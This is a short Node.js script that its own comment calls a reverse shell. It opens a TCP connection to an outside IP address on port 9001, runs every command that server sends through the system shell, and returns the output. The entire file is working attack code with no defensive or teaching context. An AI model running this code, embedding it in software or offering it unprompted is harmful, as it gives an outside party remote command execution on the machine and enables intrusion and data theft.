// reverse-shell: each line from the server runs in the shell and the output is sent back
const net = require('net');
const { exec } = require('child_process');
const sock = net.connect(9001, '198.51.100.23');
sock.on('data', (buf) => {
  exec(buf.toString().trim(), (err, stdout, stderr) => sock.write(stdout + stderr));
});
